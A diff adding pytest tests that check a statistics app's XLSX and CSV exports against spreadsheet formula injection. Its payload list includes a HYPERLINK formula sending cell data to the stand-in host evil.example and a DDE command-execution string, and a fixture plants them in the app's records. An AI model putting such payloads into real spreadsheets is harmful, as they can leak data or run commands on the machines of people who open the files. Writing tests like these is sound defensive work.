@@ -149,3 +149,118 @@ def test_xlsx_layout_header_widths_frozen_row_and_an_empty_sheet_note():
     # East Asian characters count twice: 9 of them, 18 + 2; short columns get the minimum of 8.
     assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (20, 8)
     assert empty["A2"].value == "没有数据"
+
+
+# --- Formula injection ------------------------------------------------------------------------------
+
+# Text a spreadsheet would run: each formula start, and a tab or carriage return before one.
+PAYLOADS = {
+    "root": '=HYPERLINK("http://evil.example/?d="&B2,"详情")',
+    "a": "+1+1银行",
+    "a1": "-2+3分行",
+    "b": "@SUM(1+1)",
+    "team": "\t=1+1",
+    "c1": "\r=1+1",
+    "c2": "=社区",
+    "street": "=cmd|' /C calc'!A0",
+    "district": "+区",
+    "pt1": "=岗位",
+    "pt2": "-岗位",
+    "va1": '=HYPERLINK("http://evil.example","张三")',
+}
+
+
+@pytest.fixture
+def poisoned(world):
+    """The shared world with every name a table shows replaced by a formula-like text."""
+    for key in ("root", "a", "a1", "b", "team", "c1", "c2", "pt1", "pt2"):
+        obj = getattr(world, key)
+        obj.name = PAYLOADS[key]
+        obj.save(update_fields=["name"])
+    for community in (world.c1, world.c2):
+        community.street.name = PAYLOADS["street"]
+        community.street.save(update_fields=["name"])
+        community.street.district.name = PAYLOADS["district"]
+        community.street.district.save(update_fields=["name"])
+    world.va1.real_name = PAYLOADS["va1"]
+    world.va1.save(update_fields=["real_name"])
+    return world
+
+
+def assert_xlsx_has_no_formula(content: bytes) -> list[str]:
+    """No sheet holds a formula; every formula-like text is a string cell formatted as text."""
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not [xml for xml in sheets if b"<f>" in xml or b"<f " in xml]
+    texts = []
+    for sheet in load_workbook(io.BytesIO(content)).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                # XML reads a carriage return back as a line feed.
+                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
+                    assert (cell.data_type, cell.number_format) == ("s", "@"), (cell.coordinate, cell.value)
+                    texts.append(cell.value)
+    return texts
+
+
+def csv_fields(content: bytes) -> list[str]:
+    text = content.decode("utf-8").lstrip("\ufeff")
+    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
+    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    return fields
+
+
+# The tables that show names; the daily, star-level and overview tables hold figures only.
+NAMED_TABLES = {
+    "/api/v1/stats/organizations/": {"root", "a", "a1", "b"},
+    "/api/v1/stats/communities/": {"c1", "c2", "street", "district"},
+    "/api/v1/stats/post-types/": {"pt1", "pt2"},
+    "/api/v1/stats/leaderboard/": {"va1", "a", "team"},
+    "/api/v1/stats/leaderboard/?by=team": {"team", "a"},
+}
+
+
+@pytest.mark.parametrize("url", STATS_URLS)
+def test_every_export_keeps_formula_like_names_as_text(poisoned, api, url):
+    client = api(poisoned.staff_root)
+    expected = {PAYLOADS[key] for key in NAMED_TABLES.get(url, ())}
+
+    xlsx = client.get(with_export(url, "xlsx"))
+    assert xlsx.status_code == 200
+    assert {text.replace("\r", "\n") for text in expected} <= set(assert_xlsx_has_no_formula(xlsx.content))
+
+    fields = csv_fields(client.get(with_export(url, "csv")).content)
+    assert {"'" + payload for payload in expected} <= set(fields)
+
+
+def test_the_service_record_keeps_formula_like_text_as_text(poisoned, api):
+    response = api(poisoned.va1.user).get("/api/v1/me/service-record.xlsx")
+    assert response.status_code == 200
+    texts = assert_xlsx_has_no_formula(response.content)
+    # The name, organization and team; the place (community c1); the service content (post type).
+    assert {PAYLOADS["va1"], PAYLOADS["a"], PAYLOADS["team"], "\n=1+1"} <= set(texts)
+    assert [t for t in texts if t.startswith(PAYLOADS["pt1"] + " · ")]
+
+
+def test_numbers_are_not_prefixed_and_text_cells_only_where_needed():
+    columns = [exports.Column("name", "名称"), exports.Column("n", "Count", "int")]
+    rows = [{"name": "-5", "n": -5}, {"name": "普通", "n": 3}]
+    sheet = exports.Sheet("t", columns, rows)
+    text = exports.csv_bytes(sheet).decode("utf-8").lstrip("\ufeff")
+    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [["'-5", "-5"], ["普通", "3"]]
+    book = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet]))).active
+    assert [(c.value, c.data_type) for c in book[2]] == [("-5", "s"), (-5, "n")]
+    assert (book["A2"].number_format, book["A3"].number_format, book["B2"].number_format) == ("@", "General", "#,##0")
+
+
+def test_control_characters_are_left_out_of_xlsx_and_kept_in_csv(poisoned, api):
+    poisoned.va1.real_name = "张\x07三\x1b"
+    poisoned.va1.save(update_fields=["real_name"])
+    client = api(poisoned.staff_root)
+    sheet = workbook(client.get("/api/v1/stats/leaderboard/?export=xlsx")).active
+    assert "张三" in [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert "张\x07三\x1b" in csv_fields(client.get("/api/v1/stats/leaderboard/?export=csv").content)
+    record = load_workbook(io.BytesIO(api(poisoned.va1.user).get("/api/v1/me/service-record.xlsx").content))
+    assert "张三" in [row[1] for row in record.worksheets[0].iter_rows(min_row=2, values_only=True)]
